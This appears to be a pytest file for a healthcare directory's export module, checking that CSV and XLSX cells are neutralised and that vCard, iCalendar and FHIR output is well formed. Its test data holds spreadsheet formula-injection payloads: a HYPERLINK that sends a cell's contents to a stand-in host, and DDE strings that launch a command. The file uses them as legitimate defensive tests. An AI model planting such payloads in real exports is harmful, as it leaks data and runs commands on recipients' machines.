"""Export builders: formulas neutralised (CSV, XLSX), vCard, iCalendar and FHIR well formed."""

import io
import json
import zipfile
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook

from maillage.exports.formats import (
    CalendarEvent,
    DirectoryContact,
    csv_bytes,
    fhir_bundle_bytes,
    ics_bytes,
    neutralise_cell,
    vcard_bytes,
    xlsx_bytes,
)

DANGEROUS = [
    '=HYPERLINK("https://exemple.invalid/?d="&A1;"Cliquez")',
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_csv_cells_starting_like_a_formula_are_neutralised(value):
    content, count = csv_bytes(["Nom", "Valeur"], [["Dupuis", value]])
    assert count == 1
    text = content.decode("utf-8-sig")
    assert f"'{value}" in text or f"\"'{value}" in text.replace('""', '"')
    assert neutralise_cell(value) == "'" + value


def test_csv_leaves_ordinary_values_alone():
    content, _ = csv_bytes(["Commune", "Code"], [["Saint-Étienne", "42218"], ["Tours", None]])
    lines = content.decode("utf-8-sig").splitlines()
    assert lines == ["Commune;Code", "Saint-Étienne;42218", "Tours;"]


def test_xlsx_writes_every_cell_as_text():
    rows = [[value, 42, None] for value in DANGEROUS]
    content, count = xlsx_bytes(["Texte", "Nombre", "Vide"], rows, sheet_title="Export: test/1")
    assert count == len(DANGEROUS)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.title == "Export  test 1"
    for index, value in enumerate(DANGEROUS, start=2):
        cell = sheet.cell(row=index, column=1)
        assert cell.data_type == "s"
        assert cell.value == value.replace("\r", "\n")  # XML reads a bare CR as LF
        assert cell.quotePrefix is True
        assert sheet.cell(row=index, column=2).value == "42"  # numbers are text too
    assert sheet.cell(row=1, column=1).font.bold


def test_xlsx_drops_characters_xml_cannot_hold():
    content, _ = xlsx_bytes(["A"], [["bip\x07bip"]])
    assert load_workbook(io.BytesIO(content)).active["A2"].value == "bipbip"


def test_a_vcard_carries_directory_fields_escaped_and_folded():
    contact = DirectoryContact(
        family_name="Rossignol",
        given_name="Aude",
        civility="Dr",
        organisation="Maison de santé, Loches; site nord",
        profession="Médecin généraliste",
        phones=("02 47 00 00 00",),
        email="a.rossignol@example.org",
        street="1 rue des Écoles",
        postal_code="37600",
        city="Loches",
        rpps="10003456789",
        uid="4b1f0c1e-0000-4000-8000-000000000001",
    )
    content, count = vcard_bytes([contact, DirectoryContact(family_name="Centre")])
    assert count == 2
    text = content.decode("utf-8")
    assert text.count("BEGIN:VCARD") == 2
    assert "\r\n" in text and "\n" not in text.replace("\r\n", "")
    assert all(len(line.encode()) <= 75 for line in text.split("\r\n"))
    unfolded = text.replace("\r\n ", "")
    assert "ORG:Maison de santé\\, Loches\\; site nord" in unfolded
    assert "N:Rossignol;Aude;;Dr;" in unfolded
    assert "TEL;TYPE=work;VALUE=uri:tel:0247000000" in unfolded
    assert "ADR;TYPE=work:;;1 rue des Écoles;Loches;;37600;France" in unfolded


def test_a_vcard_has_no_field_for_patient_data():
    with pytest.raises(TypeError):
        DirectoryContact(family_name="X", birth_date="1950-01-01")


def test_an_icalendar_file_has_utc_times_and_escaped_text():
    start = datetime(2025, 3, 12, 18, 30, tzinfo=UTC)
    event = CalendarEvent(
        uid="evt-1@maillage",
        start=start,
        end=start + timedelta(hours=2),
        summary="Soirée soins palliatifs, Tours; salle 2",
        location="Hôpital",
        description="Ligne 1\nLigne 2 " + "très longue " * 10,
    )
    content, count = ics_bytes([event], calendar_name="Formations")
    assert count == 1
    text = content.decode("utf-8")
    assert text.startswith("BEGIN:VCALENDAR\r\nVERSION:2.0\r\n")
    assert text.endswith("END:VCALENDAR\r\n")
    assert "DTSTART:20250312T183000Z" in text
    assert "DTEND:20250312T203000Z" in text
    assert all(len(line.encode()) <= 75 for line in text.split("\r\n"))
    unfolded = text.replace("\r\n ", "")
    assert "SUMMARY:Soirée soins palliatifs\\, Tours\\; salle 2" in unfolded
    assert "DESCRIPTION:Ligne 1\\nLigne 2" in unfolded


def test_icalendar_refuses_naive_datetimes():
    naive = datetime(2025, 3, 12, 18, 30)
    with pytest.raises(ValueError):
        ics_bytes([CalendarEvent(uid="x", start=naive, end=naive, summary="x")])


def test_a_fhir_bundle_is_valid_json():
    from fhir.resources.organization import Organization

    content, count = fhir_bundle_bytes([Organization(id="org-1", name="Réseau")])
    assert count == 1
    bundle = json.loads(content)
    assert bundle["resourceType"] == "Bundle"
    assert bundle["type"] == "collection"
    assert bundle["entry"][0]["resource"] == {
        "resourceType": "Organization",
        "id": "org-1",
        "name": "Réseau",
    }
